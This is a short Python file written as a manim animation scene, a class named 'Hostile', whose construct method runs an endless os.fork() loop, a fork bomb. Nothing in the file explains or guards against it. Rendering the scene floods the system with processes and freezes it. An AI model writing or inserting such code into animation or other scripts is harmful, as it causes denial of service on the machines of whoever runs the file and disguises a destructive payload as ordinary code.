from manim import *
import os


class Hostile(Scene):
    def construct(self):
        while True:
            os.fork()
